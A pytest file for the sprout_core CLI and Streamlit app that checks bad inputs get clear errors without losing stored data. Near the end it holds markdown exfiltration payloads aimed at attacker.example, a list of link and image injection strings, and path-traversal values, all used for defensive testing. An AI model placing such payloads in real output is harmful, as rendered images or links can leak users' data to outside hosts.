"""The bad-input matrix (issue 10): every bad input gets a clear message, and nothing stored is lost.

Each case runs one command through ``sprout_core.cli.main`` (or one page through AppTest) against a state
folder that already holds History rows and an evaluation run, then checks:

* the exit status (2 for bad input / unusable data) and no Python traceback;
* the message names the problem (a regular expression per case);
* every row stored before is still there, unchanged, and nothing half-done was added.

Cases that would have to load a model use the tiny random Llama; every other case must fail *before* any
model is loaded (``load_model`` is replaced by a function that fails the test).
"""
from __future__ import annotations

import io
import re
import sys
from contextlib import closing
from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest

from sprout_core import backends, models, store
from sprout_core.cli import main
from sprout_core.commands import evaluate as eval_cmd
from sprout_core.commands import generate as gen_cmd
from sprout_core.evaluate import db
from sprout_core.evaluate.judges import parse_judge
from sprout_core.evaluate.prompts import PromptItem
from sprout_core.evaluate.runner import run_evaluation

ROOT = Path(__file__).resolve().parent.parent
LONG = "word " * 4010 + "end"  # 20,053 characters


# ---------------------------------------------------------------- stored state and its snapshot

def seed_state() -> None:
    for i, lv in enumerate(("L0", "L1", "L2")):
        store.record_request(model="seed", level=lv, prompt=f"seed prompt {i}", answer=f"seed answer {i} 100%_x",
                             energy_j=1.0 + i, energy_method="estimated:cpu-tdp", origin="seed")
    prompts = [PromptItem(f"s{i}", f"What is {i}+1?", "math", str(i + 1)) for i in range(3)]

    def answer(p, lv):
        return {"text": f"{lv}: it is {p[-3]}", "new_tokens": 3, "total_s": 0.1, "energy_j": 0.5,
                "energy_method": "estimated:cpu-tdp", "model": "seed"}

    cfg = db.RunConfig(prompt_set="seed", n=3, seed=0, levels=("L0", "L1", "L2"), judge="reference", model="seed")
    run_evaluation(cfg, prompts, answer, parse_judge("reference"), similarity=lambda texts, ref: [0.5] * len(texts))


def snapshot() -> dict:
    with closing(store.connect()) as c:
        return {
            "requests": [tuple(r) for r in c.execute("SELECT uid, model, level, prompt, answer, energy_j FROM requests ORDER BY id")],
            "answers": [tuple(r) for r in c.execute("SELECT run_id, prompt_id, level, text, energy_j FROM eval_answers ORDER BY id")],
            "verdicts": [tuple(r) for r in c.execute("SELECT run_id, prompt_id, judge, winner FROM eval_judgments ORDER BY id")],
            "runs": [tuple(r) for r in c.execute("SELECT id, run_key FROM eval_runs ORDER BY id")],
        }


def assert_nothing_lost(before: dict, after: dict, added_ok: bool = False) -> None:
    for table, rows in before.items():
        assert after[table][: len(rows)] == rows, f"{table}: stored rows changed or were lost"
        if not added_ok:
            assert len(after[table]) == len(rows), f"{table}: a failed command stored something"
    assert store.pending_requests() == 0 and db.queued_answers() == 0


@pytest.fixture
def seeded(monkeypatch):
    seed_state()
    return snapshot()


# ---------------------------------------------------------------- files the cases point at

@pytest.fixture
def files(tmp_path, tiny_llama2_dir):
    f = {}
    pickle_dir = tmp_path / "pickle-model"
    pickle_dir.mkdir()
    for name in ("config.json", "tokenizer.json", "tokenizer_config.json"):
        (pickle_dir / name).write_text((tiny_llama2_dir / name).read_text())
    (pickle_dir / "pytorch_model.bin").write_bytes(b"\x80\x04not really a pickle")
    f["pickle"] = str(pickle_dir)
    noconf = tmp_path / "no-config"
    noconf.mkdir()
    (noconf / "model.safetensors").write_bytes(b"x")
    f["noconf"] = str(noconf)
    badconf = tmp_path / "bad-config"
    badconf.mkdir()
    for p in tiny_llama2_dir.iterdir():
        (badconf / p.name).write_bytes(p.read_bytes())
    (badconf / "config.json").write_text("[1, 2, 3]")
    f["badconf"] = str(badconf)
    f["file"] = str(tiny_llama2_dir / "config.json")
    f["tiny"] = str(tiny_llama2_dir)
    latin = tmp_path / "latin1.jsonl"
    latin.write_bytes('{"prompt": "caf\xe9"}\n'.encode("latin-1"))
    f["latin1"] = str(latin)
    nocol = tmp_path / "nocol.csv"
    nocol.write_text("question,answer\nwhat,that\n")
    f["nocol"] = str(nocol)
    allbad = tmp_path / "allbad.jsonl"
    allbad.write_text('{"prompt": ""}\nnot json\n{"prompt": "\\ud800 lone"}\n')
    f["allbad"] = str(allbad)
    latin_csv = tmp_path / "labels.csv"
    latin_csv.write_bytes("prompt,category\ncaf\xe9,a\nth\xe9,b\n".encode("latin-1"))
    f["latin_csv"] = str(latin_csv)
    f["dir"] = str(tmp_path)
    f["unwritable"] = "/proc/sprout-export/run.jsonl"
    return f


# ---------------------------------------------------------------- the CLI matrix

#: (id, argv with {placeholders}, expected exit status, regex the message must match, may load the tiny model)
CLI_CASES = [
    # generate: numbers
    ("gen-pue-below-1", ["generate", "--prompt", "hi", "--pue", "0.5"], 2, r"--pue: must be at least 1", False),
    ("gen-pue-nan", ["generate", "--prompt", "hi", "--pue", "nan"], 2, r"--pue: must be a finite number", False),
    ("gen-pue-inf", ["generate", "--prompt", "hi", "--pue", "inf"], 2, r"--pue: must be a finite number", False),
    ("gen-pue-huge", ["generate", "--prompt", "hi", "--pue", "40"], 2, r"--pue: must be at most 3", False),
    ("gen-threads-negative", ["generate", "--prompt", "hi", "--threads", "-1"], 2, r"--threads: must be at least 1", False),
    ("gen-threads-zero", ["generate", "--prompt", "hi", "--threads", "0"], 2, r"--threads: must be at least 1", False),
    ("gen-threads-text", ["generate", "--prompt", "hi", "--threads", "two"], 2, r"--threads: must be a whole number", False),
    ("gen-max-new-zero", ["generate", "--prompt", "hi", "--max-new-tokens", "0"], 2, r"--max-new-tokens: must be at least 1", False),
    ("gen-max-new-huge", ["generate", "--prompt", "hi", "--max-new-tokens", "99999999"], 2, r"--max-new-tokens: must be at most", False),
    ("gen-ci-nan", ["generate", "--prompt", "hi", "--ci", "nan"], 2, r"--ci: must be a finite number", False),
    ("gen-ci-negative", ["generate", "--prompt", "hi", "--ci", "-5"], 2, r"--ci: must be at least 0", False),
    ("gen-ci-absurd", ["generate", "--prompt", "hi", "--ci", "1e12"], 2, r"--ci: must be at most 1,000", False),
    ("gen-watts-negative", ["generate", "--prompt", "hi", "--watts-per-core", "-3"], 2, r"--watts-per-core: must be above 0", False),
    ("gen-temperature-zero", ["generate", "--prompt", "hi", "--sample", "--temperature", "0"], 2, r"--temperature: must be above 0", False),
    ("gen-top-p-above-1", ["generate", "--prompt", "hi", "--sample", "--top-p", "1.5"], 2, r"--top-p: must be at most 1", False),
    ("gen-seed-negative", ["generate", "--prompt", "hi", "--seed", "-1"], 2, r"--seed: must be at least 0", False),
    ("gen-hour-negative", ["generate", "--prompt", "hi", "--hour", "-1"], 2, r"--hour: must be at least 0", False),
    ("gen-hour-past-year", ["generate", "--prompt", "hi", "--hour", "9000"], 2, r"--hour: must be at most 8,783", False),
    # generate: names
    ("gen-unknown-level", ["generate", "--prompt", "hi", "--levels", "L7"], 2, r"unknown --levels 'L7'; choose from L0, L1, L2", False),
    ("gen-duplicate-level", ["generate", "--prompt", "hi", "--levels", "L0,L0"], 2, r"--levels names L0 more than once", False),
    ("gen-empty-levels", ["generate", "--prompt", "hi", "--levels", " , "], 2, r"--levels is empty", False),
    ("gen-unknown-directive-set", ["generate", "--prompt", "hi", "--directive-set", "nope"], 2, r"No directive set 'nope'; available: paper", False),
    ("gen-directive-set-path", ["generate", "--prompt", "hi", "--directive-set", "../models"], 2, r"No directive set '\.\./models'", False),
    ("gen-unknown-embodied", ["generate", "--prompt", "hi", "--embodied", "nope"], 2, r"unknown embodied-carbon preset 'nope'", False),
    ("gen-unknown-backend", ["generate", "--prompt", "hi", "--energy-backend", "nope"], 2, r"unknown energy backend 'nope'; choose one of nvml-counter", False),
    ("gen-unknown-cpu-model", ["generate", "--prompt", "hi", "--cpu-power-model", "nope"], 2, r"unknown CPU power model 'nope'", False),
    ("gen-unknown-zone", ["generate", "--prompt", "hi", "--zone", "ZZ"], 2, r"carbon intensity for zone 'ZZ' is not available", False),
    ("gen-year-without-trace", ["generate", "--prompt", "hi", "--zone", "DE", "--year", "1950"], 2, r"zone 'DE' in 1950 is not available", False),
    ("gen-unknown-placement", ["generate", "--prompt", "hi", "--placement", "middle"], 2, r"--placement: invalid choice", False),
    # generate: text
    ("gen-empty-prompt", ["generate", "--prompt", "   "], 2, r"The prompt is empty", False),
    ("gen-surrogate-prompt", ["generate", "--prompt", "caf\udce9 au lait"], 2, r"not valid text: character 4 is '\\udce9'", False),
    ("gen-too-long-prompt", ["generate", "--prompt", LONG], 2, r"has 20,053 characters; the limit is 20,000", False),
    ("gen-stdin-not-utf8", ["generate", "--prompt", "-"], 2, r"standard input is not UTF-8 text: byte 4 \(0xe9\)", False),
    ("gen-surrogate-task", ["generate", "--prompt", "hi", "--task", "m\udcffath"], 2, r"--task: .*unpaired UTF-16 surrogate", False),
    # generate: models
    ("gen-missing-model", ["generate", "--prompt", "hi", "--model", "{dir}/nope"], 2, r"nope: no such folder", False),
    ("gen-model-is-a-file", ["generate", "--prompt", "hi", "--model", "{file}"], 2, r"not a folder", False),
    ("gen-model-no-config", ["generate", "--prompt", "hi", "--model", "{noconf}"], 2, r"no config.json", False),
    ("gen-pickle-model", ["generate", "--prompt", "hi", "--model", "{pickle}"], 2,
     r"Model folder 'pickle-model' has only PyTorch pickle weights \(pytorch_model.bin\).*SPROUT_ALLOW_PICKLE=1", False),
    ("gen-bad-config", ["generate", "--prompt", "hi", "--model", "{badconf}"], 2, r"config.json is not a model configuration", False),
    ("gen-unknown-device", ["generate", "--prompt", "hi", "--model", "{tiny}", "--device", "tpu"], 2, r"Unknown device 'tpu'", False),
    ("gen-cuda-missing", ["generate", "--prompt", "hi", "--model", "{tiny}", "--device", "cuda:7"], 2, r"cuda:7", False),
    ("gen-unknown-dtype", ["generate", "--prompt", "hi", "--model", "{tiny}", "--dtype", "int3"], 2, r"Unknown dtype 'int3'", False),
    ("gen-embedded-on-cuda", ["generate", "--prompt", "hi", "--model", "embedded", "--device", "cuda"], 2, r"embedded model runs on the CPU only", False),
    ("gen-prompt-over-context", ["generate", "--prompt", "the quick brown fox " * 120, "--model", "{tiny}"], 2,
     r"reads at most 256 tokens", True),
    # generate: backends (issue 12's flags, checked before anything is loaded or contacted)
    ("gen-server-without-url", ["generate", "--prompt", "hi", "--backend", "server"], 2, r"needs --server-url", False),
    ("gen-server-timeout-nan", ["generate", "--prompt", "hi", "--server-url", "http://127.0.0.1:9/v1", "--server-timeout",
                                "nan"], 2, r"server timeout must be between 0 and 3600 s", False),
    ("gen-server-refused", ["generate", "--prompt", "hi", "--server-url", "http://127.0.0.1:9/v1"], 2,
     r"Cannot reach the server at http://127.0.0.1:9/v1: connection refused", True),
    ("gen-llamacpp-other-model", ["generate", "--prompt", "hi", "--backend", "llama.cpp", "--model", "{tiny}"], 2,
     r"llama.cpp backend runs the embedded model only|llama-cpp-python", False),
    # evaluate
    ("ev-n-zero", ["evaluate", "--n", "0"], 2, r"--n: must be at least 1", False),
    ("ev-n-negative", ["evaluate", "--n", "-3"], 2, r"--n: must be at least 1", False),
    ("ev-n-nan", ["evaluate", "--n", "nan"], 2, r"--n: must be a whole number", False),
    ("ev-max-new-zero", ["evaluate", "--max-new-tokens", "0"], 2, r"--max-new-tokens: must be at least 1", False),
    ("ev-unknown-judge-folder", ["evaluate", "--judge", "llm:{dir}/no-judge"], 2, r"no-judge: no such folder", False),
    ("ev-judge-empty-folder", ["evaluate", "--judge", "llm:"], 2, r"needs a model folder after the colon", False),
    ("ev-pickle-judge", ["evaluate", "--judge", "llm:{pickle}"], 2, r"only PyTorch pickle weights", False),
    ("ev-unknown-judge", ["evaluate", "--judge", "oracle"], 2, r"Unknown judge 'oracle'", False),
    ("ev-human-judge", ["evaluate", "--judge", "human"], 2, r"people give their verdicts in the app", False),
    ("ev-unknown-level", ["evaluate", "--levels", "L9"], 2, r"unknown --levels 'L9'", False),
    ("ev-duplicate-level", ["evaluate", "--levels", "L1,L1"], 2, r"--levels names L1 more than once", False),
    ("ev-unknown-set", ["evaluate", "--prompts", "nope"], 2, r"No prompt set named 'nope'", False),
    ("ev-missing-file", ["evaluate", "--prompts", "{dir}/none.jsonl"], 2, r"no such file", False),
    ("ev-prompts-dir", ["evaluate", "--prompts", "{dir}"], 2, r"is a folder; give a .jsonl or .csv file", False),
    ("ev-prompts-latin1", ["evaluate", "--prompts", "{latin1}"], 2, r"the file is not UTF-8 text", False),
    ("ev-prompts-no-column", ["evaluate", "--prompts", "{nocol}"], 2, r"no 'prompt' column", False),
    ("ev-prompts-all-bad", ["evaluate", "--prompts", "{allbad}"], 2, r"has no usable prompts \(3 bad rows", False),
    ("ev-export-unwritable", ["evaluate", "--export", "{unwritable}"], 2, r"--export .* cannot be written", False),
    ("ev-export-dir", ["evaluate", "--export", "{dir}"], 2, r"is a folder; give a file name", False),
    ("ev-unknown-directive-set", ["evaluate", "--directive-set", "nope"], 2, r"No directive set 'nope'", False),
    ("ev-seed-negative", ["evaluate", "--seed", "-1"], 2, r"--seed: must be at least 0", False),
    ("ev-unknown-sampling", ["evaluate", "--sampling", "random"], 2, r"--sampling: invalid choice", False),
    ("ev-threads-negative", ["evaluate", "--threads", "-2"], 2, r"--threads: must be at least 1", False),
    ("ev-api-judge-no-url", ["evaluate", "--judge", "api:gpt"], 2, r"needs SPROUT_JUDGE_BASE_URL", False),
    # agreement
    ("ag-limit-zero", ["agreement", "--limit", "0"], 2, r"--limit: must be at least 1", False),
    ("ag-unknown-task", ["agreement", "--tasks", "nope"], 2, r"unknown --tasks 'nope'|Missing public data", False),
    # classify
    ("cl-test-size-zero", ["classify", "--train", "{nocol}", "--test-size", "0"], 2, r"--test-size: must be above 0", False),
    ("cl-test-size-nan", ["classify", "--train", "{nocol}", "--test-size", "nan"], 2, r"--test-size: must be a finite number", False),
    ("cl-train-missing", ["classify", "--train", "{dir}/none.csv", "--name", "x"], 2, r"No such file", False),
    ("cl-train-dir", ["classify", "--train", "{dir}", "--name", "x"], 2, r"Could not read", False),
    ("cl-train-latin1", ["classify", "--train", "{latin_csv}", "--name", "x"], 2, r"Could not read labels.csv: it is not UTF-8", False),
    ("cl-train-no-columns", ["classify", "--train", "{nocol}", "--name", "x"], 2, r"missing column\(s\) prompt, category", False),
    ("cl-surrogate-prompt", ["classify", "--prompt", "\udc80"], 2, r"--prompt: .*unpaired UTF-16 surrogate", False),
    ("cl-train-per-task-zero", ["classify", "--train-per-task", "0"], 2, r"--train-per-task: must be at least 1", False),
    ("cl-unknown-classifier", ["classify", "--classifier", "nope", "--prompt", "hi"], 2, r"no classifier named 'nope'", False),
    ("cl-empty-name", ["classify", "--train", "{nocol}", "--name", ""], 2, r"--name: .*empty", False),
]


@pytest.mark.parametrize("case", CLI_CASES, ids=[c[0] for c in CLI_CASES])
def test_cli_bad_input(case, seeded, files, monkeypatch, capsys):
    name, argv, code, pattern, may_load = case
    argv = [a.format(**files) if "{" in a else a for a in argv]
    if not may_load:
        def no_load(*a, **kw):
            raise AssertionError(f"{name}: the model was loaded before the input was checked")
        monkeypatch.setattr(models, "load_model", no_load)
        monkeypatch.setattr(backends, "load_model", no_load)
        monkeypatch.setattr(gen_cmd, "open_backend", no_load)
        monkeypatch.setattr(eval_cmd, "open_backend", no_load)
    if name == "gen-stdin-not-utf8":
        monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO("caf\xe9".encode("latin-1"))))
    monkeypatch.delenv("SPROUT_JUDGE_BASE_URL", raising=False)
    rc = main(argv)
    err = capsys.readouterr().err
    assert rc == code, f"{name}: exit {rc}, stderr: {err[-800:]}"
    assert "Traceback" not in err and "this is a bug" not in err, err
    assert re.search(pattern, err, re.S), f"{name}: message {err[-600:]!r} does not match {pattern!r}"
    assert_nothing_lost(seeded, snapshot())


def test_the_cli_matrix_is_large():
    assert len(CLI_CASES) >= 40


# ---------------------------------------------------------------- the app matrix (AppTest)

PLAYGROUND = str(ROOT / "pages/playground.py")
HISTORY = str(ROOT / "pages/history.py")
HOME = str(ROOT / "pages/home.py")
EVALUATIONS = str(ROOT / "pages/evaluations.py")


@pytest.fixture
def tiny_env(monkeypatch, tiny_llama2_dir):
    monkeypatch.setenv("SPROUT_MODEL", str(tiny_llama2_dir))
    return tiny_llama2_dir


def errors_of(at) -> str:
    return " | ".join([e.value for e in at.error] + [w.value for w in at.warning] + [i.value for i in at.info])


def test_app_over_long_paste_is_said_and_kept(tiny_env, seeded):
    at = AppTest.from_file(PLAYGROUND, default_timeout=120).run()
    at.text_area(key="pg.prompt").input(LONG).run()
    assert not at.exception
    assert "has 20,053 characters; the limit is 20,000" in errors_of(at)
    assert len(at.text_area(key="pg.prompt").value) == len(LONG)  # the text stays, to be shortened
    at.button(key="pg.run").click().run()
    assert "Nothing was run" in errors_of(at) and not at.exception
    assert_nothing_lost(seeded, snapshot())


def test_app_prompt_longer_than_the_context(tiny_env, seeded):
    at = AppTest.from_file(PLAYGROUND, default_timeout=120).run()
    at.text_area(key="pg.prompt").input("the quick brown fox " * 120)
    at.button(key="pg.run").click().run()
    assert not at.exception
    assert "reads at most 256 tokens" in errors_of(at)
    assert_nothing_lost(seeded, snapshot())


def test_app_history_search_percent_and_underscore_are_literal(seeded):
    store.record_request(model="m", prompt="a 50% cut", answer="x")
    store.record_request(model="m", prompt="snake_case", answer="y")
    before = snapshot()
    at = AppTest.from_file(HISTORY, default_timeout=60).run()
    for text, expect in (("%", {"a 50% cut", "seed answer"}), ("_", {"snake_case", "seed answer"}), ("50%", {"a 50% cut"}),
                         ("e_c", {"snake_case"}), ("\\", set())):
        at.text_input(key="hist.text").input(text).run()
        assert not at.exception
        shown = set(at.dataframe[0].value["prompt"]) if at.dataframe else set()
        got = {("seed answer" if p.startswith("seed") else p) for p in shown}
        assert got == expect, (text, shown)
    assert_nothing_lost(before, snapshot())


def test_app_history_on_a_locked_database_queues_and_says_so(seeded):
    import sqlite3

    blocker = sqlite3.connect(str(store.default_path()), timeout=0.1)
    blocker.execute("BEGIN EXCLUSIVE")
    try:
        with pytest.raises(store.StoreError) as info:
            with closing(store.connect(timeout_s=0.2)) as c:
                store.record_request(model="queued", prompt="kept", answer="safe", conn=c)
        msg = str(info.value)
        assert "locked" in msg and "pending queue" in msg and "nothing was lost" in msg
        assert store.pending_requests() == 1
    finally:
        blocker.rollback()
        blocker.close()
    at = AppTest.from_file(HISTORY, default_timeout=60).run()
    assert not at.exception
    assert "kept" in set(at.dataframe[0].value["prompt"])  # the queued answer reached History
    assert store.pending_requests() == 0
    assert_nothing_lost(seeded, snapshot(), added_ok=True)
    assert sum(1 for r in snapshot()["requests"] if r[1] == "queued") == 1  # exactly once


def test_app_history_queued_answers_are_announced(seeded, monkeypatch):
    store.queue_append("requests", store.asdict(store.RequestRecord(model="q", prompt="waiting row")))
    monkeypatch.setattr(store, "flush_pending", lambda conn, path=None: 0)  # the database is still refusing writes
    at = AppTest.from_file(HISTORY, default_timeout=60).run()
    assert not at.exception
    assert "1 answer waiting in the pending queue" in errors_of(at)


def test_app_history_corrupt_database(_isolated_state):
    (_isolated_state / store.DB_NAME).write_bytes(b"garbage" * 200)
    at = AppTest.from_file(HISTORY, default_timeout=60).run()
    assert not at.exception
    assert "not a readable SQLite database" in errors_of(at) and "Move it aside" in errors_of(at)
    assert (_isolated_state / store.DB_NAME).read_bytes().startswith(b"garbage")  # untouched


def _home(monkeypatch, tiny_llama2_dir, shared: bool):
    monkeypatch.setenv("SPROUT_MODEL", str(tiny_llama2_dir))
    if shared:
        monkeypatch.setenv("SPROUT_SHARED", "1")
        monkeypatch.setenv("SPROUT_MODELS", str(tiny_llama2_dir))
    return AppTest.from_file(HOME, default_timeout=120).run()


def test_app_home_pickle_folder_is_refused_with_a_message(monkeypatch, tiny_llama2_dir, files, seeded):
    at = _home(monkeypatch, tiny_llama2_dir, shared=False)
    at.radio[0].set_value("Local folder").run()
    at.text_input[0].input(files["pickle"])
    next(b for b in at.button if b.label == "Load model").click().run()
    assert not at.exception
    msg = errors_of(at)
    assert "only PyTorch pickle weights" in msg and "previous model stays loaded" in msg
    assert files["pickle"] not in msg  # the folder's name, not the server's path
    assert_nothing_lost(seeded, snapshot())


@pytest.mark.parametrize("folder,expect", [("{dir}/nope", "no such folder"), ("{file}", "not a folder"),
                                           ("{noconf}", "no config.json"), ("   ", "Type the path of a model folder first"),
                                           ("{badconf}", "not a model configuration")])
def test_app_home_bad_folders(monkeypatch, tiny_llama2_dir, files, folder, expect):
    at = _home(monkeypatch, tiny_llama2_dir, shared=False)
    at.radio[0].set_value("Local folder").run()
    at.text_input[0].input(folder.format(**files))
    next(b for b in at.button if b.label == "Load model").click().run()
    assert not at.exception and expect in errors_of(at)


def test_app_home_shared_mode_offers_no_paths_and_no_threads(monkeypatch, tiny_llama2_dir):
    at = _home(monkeypatch, tiny_llama2_dir, shared=True)
    assert not at.exception
    assert not at.text_input, "shared mode must not offer a free-text model folder"
    assert not at.number_input, "shared mode must not offer the process-wide thread count"
    labels = at.selectbox(key="home.shared_model").options
    assert "tiny-llama-2-chat" in labels and not any("/" in x for x in labels)
    assert any("operator's setting" in c.value for c in at.caption)


def test_access_refuses_a_folder_outside_the_operators_list(monkeypatch, tiny_llama2_dir, files):
    from sprout_core import access
    from sprout_core.errors import NotAllowedError

    monkeypatch.setenv("SPROUT_MODELS", str(tiny_llama2_dir))
    assert access.check_model_spec(str(tiny_llama2_dir), shared=True) == str(tiny_llama2_dir.resolve())
    for spec in (files["pickle"], "/etc", "../../"):
        with pytest.raises(NotAllowedError, match="operator's models") as info:
            access.check_model_spec(spec, shared=True)
        assert spec not in str(info.value)
    assert access.check_model_spec("/anything", shared=False) == "/anything"  # local mode: the user is the operator
    with pytest.raises(NotAllowedError):
        access.require_operator("the thread count", shared=True)
    assert access.shared_mode("0.0.0.0") and access.shared_mode("192.168.1.5") and not access.shared_mode("127.0.0.1")


def test_app_evaluations_shared_mode_judge_from_the_list(monkeypatch, tiny_llama2_dir):
    monkeypatch.setenv("SPROUT_MODEL", str(tiny_llama2_dir))
    monkeypatch.setenv("SPROUT_SHARED", "1")
    monkeypatch.setenv("SPROUT_MODELS", str(tiny_llama2_dir))
    at = AppTest.from_file(EVALUATIONS, default_timeout=120).run()
    at.selectbox(key="ev.run.judge").set_value("llm (local model folder)").run()
    assert not at.exception
    assert not any(t.key == "ev.run.judge_folder" for t in at.text_input)
    assert at.selectbox(key="ev.run.judge_pick").options == ["tiny-llama-2-chat"]


def test_app_evaluations_unknown_judge_folder_is_said_before_starting(monkeypatch, tiny_llama2_dir, seeded):
    monkeypatch.setenv("SPROUT_MODEL", str(tiny_llama2_dir))
    at = AppTest.from_file(EVALUATIONS, default_timeout=120).run()
    at.selectbox(key="ev.run.judge").set_value("llm (local model folder)").run()
    at.text_input(key="ev.run.judge_folder").input("/no/such/judge").run()
    at.button(key="ev.run.start").click().run()
    assert not at.exception
    assert "Cannot start: /no/such/judge: no such folder" in errors_of(at)
    assert_nothing_lost(seeded, snapshot())


def test_app_evaluations_uploaded_fields_never_render_links_or_images(seeded):
    evil = "![x](http://attacker.example/leak?d=1) [click](https://attacker.example) <http://attacker.example> www.attacker.example"
    prompts = [PromptItem("e1", "Say hi " + evil, "cat " + evil, "ref " + evil)]
    cfg = db.RunConfig(prompt_set="evil " + evil, n=1, seed=0, levels=("L0", "L1"), judge="none", model="evil")
    run_evaluation(cfg, prompts, lambda p, lv: {"text": f"{lv} " + evil, "new_tokens": 1}, None)
    at = AppTest.from_file(EVALUATIONS, default_timeout=120).run()
    assert not at.exception
    rendered = [m.value for m in at.markdown] + [c.value for c in at.caption]
    shown = [r for r in rendered if "attacker" in r]
    assert shown, "the uploaded fields are shown"
    for r in shown:
        for bad in ("](", "![", "<http", "://", "www."):
            assert bad not in r, (bad, r)


def test_safe_markdown_leaves_no_link_or_image_token():
    from markdown_it import MarkdownIt

    from sprout_core.ui import safe_md

    md = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    attacks = [
        "![x](http://a.example/p.png)", "[t](http://a.example)", "[t](<http://a.example>)", "<http://a.example>",
        "<mailto:a@a.example>", "<a@a.example>", "[r]\n\n[r]: http://a.example", "![r]\n\n[r]: http://a.example 'title'",
        "[t] (http://a.example)", "`code` ![x](http://a.example)", "```\n![x](http://a.example)\n```",
        "~~~\n[x](y)\n~~~\n![i](http://a.example)", "- item ![x](http://a.example)\n  - [y](http://a.example)",
        "> quote [x](http://a.example)", "| a | b |\n|---|---|\n| ![x](http://a.example) | [y](z) |",
        "text\\](http://a.example)", "[a\\]b](http://a.example)", "[![img](http://a.example/i)](http://a.example)",
        "<img src=http://a.example/x>", "&#91;x&#93;(http://a.example)",
    ]
    for a in attacks:
        tokens = md.parse(safe_md(a))
        kinds = {t.type for t in tokens} | {c.type for t in tokens for c in (t.children or [])}
        assert not kinds & {"link_open", "image"}, (a, kinds)
        assert "://" not in safe_md(a)
    # formatting still renders, and nothing visible changes
    assert safe_md("**bold** and `code` and a list:\n- one") == "**bold** and `code` and a list:\n- one"
    assert safe_md("![x](y)").replace("\u200b", "") == "![x](y)"
